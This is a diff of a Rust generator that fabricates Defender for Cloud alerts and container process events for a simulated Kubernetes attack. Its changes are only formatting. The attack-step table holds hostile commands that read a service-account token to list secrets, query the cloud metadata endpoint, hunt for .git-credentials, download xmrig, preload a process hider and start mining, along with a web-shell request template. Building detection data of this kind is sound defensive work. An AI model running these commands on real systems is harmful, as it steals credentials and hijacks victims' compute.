@@ -30,24 +30,15 @@ const STEPS: &[(&str, &str)] = &[
         "Reconnaissance",
         "curl -sk -H \"Authorization: Bearer $(cat /var/run/secrets/kubernetes.io/serviceaccount/token)\" https://kubernetes.default.svc/api/v1/namespaces/mdc-simulation/secrets",
     ),
-    (
-        "Lateral movement",
-        "curl -s -H Metadata:true http://169.254.169.254/metadata/instance?api-version=2021-02-01",
-    ),
+    ("Lateral movement", "curl -s -H Metadata:true http://169.254.169.254/metadata/instance?api-version=2021-02-01"),
     ("Secrets gathering", "cat /root/.git-credentials"),
     ("Secrets gathering", "find / -name .git-credentials"),
     (
         "Cryptomining",
         "curl -sLo /tmp/xmrig https://github.com/xmrig/xmrig/releases/download/v6.21.0/xmrig-6.21.0-linux-static-x64.tar.gz",
     ),
-    (
-        "Cryptomining",
-        "echo /usr/local/lib/libprocesshider.so >> /etc/ld.so.preload",
-    ),
-    (
-        "Cryptomining",
-        "/tmp/xmrig --donate-level 1 -o pool.supportxmr.com:443 -B",
-    ),
+    ("Cryptomining", "echo /usr/local/lib/libprocesshider.so >> /etc/ld.so.preload"),
+    ("Cryptomining", "/tmp/xmrig --donate-level 1 -o pool.supportxmr.com:443 -B"),
 ];
 
 /// One container the events run in.
@@ -69,14 +60,7 @@ impl Container {
         node: &'static str,
     ) -> Container {
         let h = hashes(&format!("container/{namespace}/{pod}/{name}"));
-        Container {
-            namespace,
-            pod: pod.to_string(),
-            name,
-            image,
-            id: h.sha256,
-            node,
-        }
+        Container { namespace, pod: pod.to_string(), name, image, id: h.sha256, node }
     }
 }
 
@@ -111,10 +95,7 @@ fn push(snap: &Snapshot, t: &mut Tables, c: &Container, e: &Event) {
             ("ContainerImageName", s(c.image)),
             ("KubernetesNamespace", s(c.namespace)),
             ("KubernetesPodName", s(&c.pod)),
-            (
-                "KubernetesResource",
-                s(&format!("{}/pods/{}", c.namespace, c.pod)),
-            ),
+            ("KubernetesResource", s(&format!("{}/pods/{}", c.namespace, c.pod))),
             ("ContainerName", s(c.name)),
             ("ContainerId", s(&c.id)),
             ("ActionType", s(e.action)),
@@ -152,69 +133,15 @@ fn cloud_alerts(snap: &Snapshot, t: &mut Tables) {
     const SERVICE: &str = "Microsoft Defender for Cloud";
     // (title, category, severity, MITRE technique, step index the alert follows)
     let alerts: &[(&str, &str, &str, &str, usize)] = &[
-        (
-            "Possible Web Shell activity detected",
-            "Persistence",
-            "Medium",
-            "T1505.003",
-            0,
-        ),
-        (
-            "Network scanning tool detected",
-            "Discovery",
-            "Low",
-            "T1046",
-            1,
-        ),
-        (
-            "Suspicious Kubernetes service account operation detected",
-            "Discovery",
-            "Medium",
-            "T1613",
-            2,
-        ),
-        (
-            "Access to cloud metadata service detected",
-            "CredentialAccess",
-            "Medium",
-            "T1552.005",
-            3,
-        ),
-        (
-            "Sensitive files access detected",
-            "CredentialAccess",
-            "Medium",
-            "T1552.001",
-            4,
-        ),
-        (
-            "Possible secret reconnaissance detected",
-            "CredentialAccess",
-            "Low",
-            "T1552.001",
-            5,
-        ),
-        (
-            "Possible Crypto miners download detected",
-            "Execution",
-            "Medium",
-            "T1496",
-            6,
-        ),
-        (
-            "Command within a container accessed ld.so.preload",
-            "DefenseEvasion",
-            "Medium",
-            "T1574.006",
-            7,
-        ),
-        (
-            "A drift binary detected executing in the container",
-            "Execution",
-            "High",
-            "T1496",
-            8,
-        ),
+        ("Possible Web Shell activity detected", "Persistence", "Medium", "T1505.003", 0),
+        ("Network scanning tool detected", "Discovery", "Low", "T1046", 1),
+        ("Suspicious Kubernetes service account operation detected", "Discovery", "Medium", "T1613", 2),
+        ("Access to cloud metadata service detected", "CredentialAccess", "Medium", "T1552.005", 3),
+        ("Sensitive files access detected", "CredentialAccess", "Medium", "T1552.001", 4),
+        ("Possible secret reconnaissance detected", "CredentialAccess", "Low", "T1552.001", 5),
+        ("Possible Crypto miners download detected", "Execution", "Medium", "T1496", 6),
+        ("Command within a container accessed ld.so.preload", "DefenseEvasion", "Medium", "T1574.006", 7),
+        ("A drift binary detected executing in the container", "Execution", "High", "T1496", 8),
     ];
     let start = snap.anchor - 2 * TICKS_PER_DAY;
     let cluster = cluster_id(snap);
@@ -265,24 +192,14 @@ fn cloud_alerts(snap: &Snapshot, t: &mut Tables) {
                 ("CloudPlatform", s("Azure")),
                 (
                     "ResourceType",
-                    s(if entity == "KubernetesCluster" {
-                        "Kubernetes Service"
-                    } else {
-                        "Kubernetes Pod"
-                    }),
+                    s(if entity == "KubernetesCluster" { "Kubernetes Service" } else { "Kubernetes Pod" }),
                 ),
                 ("ResourceID", s(&cluster)),
                 ("SubscriptionId", s(&snap.subscription_id)),
-                (
-                    "AdditionalFields",
-                    json_text(json!({"Namespace": NAMESPACE, "PodName": VICTIM_POD})),
-                ),
+                ("AdditionalFields", json_text(json!({"Namespace": NAMESPACE, "PodName": VICTIM_POD}))),
             ];
             if let Some(c) = cmd {
-                row.push((
-                    "ProcessCommandLine",
-                    s(&format!("sh -c \"{}\"", c.replace('"', "\\\""))),
-                ));
+                row.push(("ProcessCommandLine", s(&format!("sh -c \"{}\"", c.replace('"', "\\\"")))));
             }
             t.push("AlertEvidence", row);
         }
@@ -325,15 +242,7 @@ fn cluster_noise(snap: &Snapshot, t: &mut Tables) {
             "containerd-shim-runc-v2",
             "root",
         ),
-        (
-            &proxy,
-            3,
-            "iptables-save",
-            "/usr/sbin/iptables-save",
-            "iptables-save -t nat",
-            "kube-proxy",
-            "root",
-        ),
+        (&proxy, 3, "iptables-save", "/usr/sbin/iptables-save", "iptables-save -t nat", "kube-proxy", "root"),
         (
             &jobs,
             6,
@@ -398,13 +307,8 @@ fn simulation(snap: &Snapshot, t: &mut Tables) {
         "mcr.microsoft.com/mdc/attack-simulation/attacker:latest",
         node,
     );
-    let victim = Container::new(
-        NAMESPACE,
-        VICTIM_POD,
-        "victim",
-        "mcr.microsoft.com/mdc/attack-simulation/victim:latest",
-        node,
-    );
+    let victim =
+        Container::new(NAMESPACE, VICTIM_POD, "victim", "mcr.microsoft.com/mdc/attack-simulation/victim:latest", node);
     let start = snap.anchor - 2 * TICKS_PER_DAY;
     // The pods start: the attacker's driver script, the victim's web server.
     push(
@@ -462,10 +366,7 @@ fn simulation(snap: &Snapshot, t: &mut Tables) {
     for (k, (_scenario, command)) in STEPS.iter().enumerate() {
         let at = start + k as i64 * 2 * TICKS_PER_MINUTE;
         let k = k as i64;
-        let request = format!(
-            "curl -s \"http://{VICTIM_POD}/ws.php?cmd={}\"",
-            encode(command)
-        );
+        let request = format!("curl -s \"http://{VICTIM_POD}/ws.php?cmd={}\"", encode(command));
         push(
             snap,
             t,
@@ -526,11 +427,7 @@ fn simulation(snap: &Snapshot, t: &mut Tables) {
             );
             continue;
         }
-        let path = if program.starts_with('/') {
-            program.to_string()
-        } else {
-            format!("/usr/bin/{program}")
-        };
+        let path = if program.starts_with('/') { program.to_string() } else { format!("/usr/bin/{program}") };
         let name = path.rsplit('/').next().unwrap_or(program).to_string();
         let expanded = command.replace("$(cat /var/run/secrets/kubernetes.io/serviceaccount/token)", "eyJhbGciOiJSUzI1NiIsImtpZCI6InNhbmRib3gifQ.eyJzdWIiOiJzeXN0ZW06c2VydmljZWFjY291bnQ6bWRjLXNpbXVsYXRpb246ZGVmYXVsdCJ9.c2lnbmF0dXJl");
         push(
